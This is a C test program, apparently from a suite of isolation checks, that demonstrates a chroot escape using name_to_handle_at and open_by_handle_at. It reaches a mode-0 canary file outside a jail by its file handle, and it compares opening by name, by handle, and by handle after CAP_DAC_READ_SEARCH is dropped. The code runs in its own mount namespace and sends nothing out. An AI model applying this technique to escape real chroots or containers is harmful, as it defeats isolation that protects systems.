/*
 * A file by its number: open_by_handle_at(2) opens what name_to_handle_at(2) has named, without a name and without asking for
 * the folders on the way. It takes CAP_DAC_READ_SEARCH, and one descriptor of the same file system.
 *
 *   disk/              a file system (tmpfs)
 *   disk/jail/         the root of the attacker
 *   disk/canary        outside of it, mode 0
 *
 * The handle is made before, as on disks whose first numbers are known to everybody: the root folder of an ext4 is 2.
 *
 * Runs as root. Man pages: open_by_handle_at(2), capabilities(7), chroot(2), tmpfs(5).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "../attack.h"

/* struct file_handle with room for the longest: open_by_handle_at(2). */
struct handle {
    unsigned bytes;
    int type;
    unsigned char number[MAX_HANDLE_SZ];
};

static struct handle handle = {.bytes = MAX_HANDLE_SZ};

static int close_it(int fd)
{
    int error = fd == -1 ? errno : 0;
    if (fd != -1)
        close(fd);
    return error;
}

static void drop(int capability)
{
    struct __user_cap_header_struct who = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct sets[2];
    if (syscall(SYS_capget, &who, sets) == -1)
        die("capget");
    sets[0].effective &= ~(1u << capability);
    sets[0].permitted &= ~(1u << capability);
    if (syscall(SYS_capset, &who, sets) == -1)
        die("capset");
}

static int by_name(void)
{
    return close_it(open("/canary", O_RDONLY | O_CLOEXEC));
}

/* The jail's root is of the same file system: that is all that is asked for. */
static int by_number(void)
{
    int here = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (here == -1)
        die("/");
    int error = close_it((int)syscall(SYS_open_by_handle_at, here, &handle, O_RDONLY | O_CLOEXEC));
    close(here);
    return error;
}

static const char *in_jail(int (*attempt)(void), bool capable)
{
    pid_t child = start_child();
    if (child == 0) {
        if (chroot("disk/jail") == -1 || chdir("/") == -1)
            die("chroot");
        if (!capable)
            drop(CAP_DAC_READ_SEARCH);
        _exit(attempt());
    }
    return verdict(WEXITSTATUS(wait_for(child)));
}

/* 0 or an errno. In a mount namespace of our own, so that nothing is left. */
static int make_disk(void)
{
    int mount_id;
    if (unshare(CLONE_NEWNS) == -1)
        return errno;
    if ((mkdir("disk", 0755) == -1 && errno != EEXIST) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == -1 ||
        mount("tmpfs", "disk", "tmpfs", 0, "mode=0755,size=64k") == -1 || mkdir("disk/jail", 0755) == -1)
        die("the file system");
    int fd = open("disk/canary", O_WRONLY | O_CREAT | O_CLOEXEC, 0);
    if (fd == -1 || close(fd) == -1)
        die("disk/canary");
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, "disk/canary", &handle, &mount_id, 0) == -1)
        die("name_to_handle_at");
    return 0;
}

int main(void)
{
    int error = make_disk();
    printf("{\"disk\": \"%s\"", verdict(error));
    fflush(stdout);
    if (error == 0) {
        printf(", \"by_name\": \"%s\"", in_jail(by_name, true));
        printf(", \"by_number\": \"%s\"", in_jail(by_number, true));
        printf(", \"without_capability\": \"%s\"", in_jail(by_number, false));
    }
    printf("}\n");
    return 0;
}
